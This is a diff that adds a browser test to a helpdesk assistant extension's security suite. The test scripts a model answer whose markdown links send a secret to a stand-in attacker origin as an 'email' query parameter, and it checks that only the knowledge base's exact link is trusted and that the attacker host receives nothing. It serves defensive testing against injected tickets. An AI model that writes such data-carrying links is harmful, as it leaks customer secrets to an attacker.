@@ -189,6 +189,41 @@ describe('security: a model that obeys the ticket, in Firefox (findings 2, 3, 6,
     await page.evaluate((id) => browser.tabs.remove(id), opened.id!);
   });
 
+  attack('Firefox: a link to a site the knowledge base only mentions, or one that carries data, opens on one click', async () => {
+    const status = `${attackerOrigin}/status`;
+    const returns = `${attackerOrigin}/returns`;
+    const ticketLink = helpdesk.ticketUrl(TICKET_1.id);
+    m.model.script([
+      {
+        text: [
+          `[Open ticket #1047 in the helpdesk](${status}?email=${SECRET})`,
+          `[The returns form](${returns}?email=${SECRET})`,
+          `[This ticket](${ticketLink}?email=${SECRET})`,
+          `[The returns form, as the knowledge base gives it](${returns})`,
+        ].join('\n\n'),
+      },
+    ]);
+    const { page, sidebar } = await sidebarOn(TICKET_1.id);
+    // The team's knowledge base names the attacker's status page, and links one exact address there.
+    const kb = `# Status\nOutages are posted on ${status} as they happen.\n\n# Returns\nUse [the returns form](${returns}).`;
+    expect(await ask$(page, { type: 'kb.import', files: [{ name: 'kb.md', text: kb }] })).toMatchObject({ ok: true, value: { added: 2 } });
+    try {
+      await ask(sidebar, 'Where does the customer return the lamp?');
+      await waitForChat(sidebar, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
+      // Settled once the exact address the knowledge base links to is trusted.
+      await waitIn(sidebar, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the knowledge base’s own link trusted');
+      const hrefs = await page.evaluate(() => [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')));
+      expect(hrefs).toEqual([returns]);
+      for (const toggle of await page.$$('[data-testid="ext-link-toggle"]')) await toggle.click();
+      await sleep(1_000);
+      expect(hits).toEqual([]);
+      const urls = await page.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
+      expect(urls).toEqual([`${status}?email=${SECRET}`, `${returns}?email=${SECRET}`, `${ticketLink}?email=${SECRET}`]);
+    } finally {
+      await ask$(page, { type: 'kb.clear' });
+    }
+  });
+
   attack('Firefox: the model calls reply.send, note.add and a made-up tool next to its draft, and the draft is sent unacknowledged', async () => {
     m.model.script([
       { toolCalls: [{ name: 'ticket__read' }] },
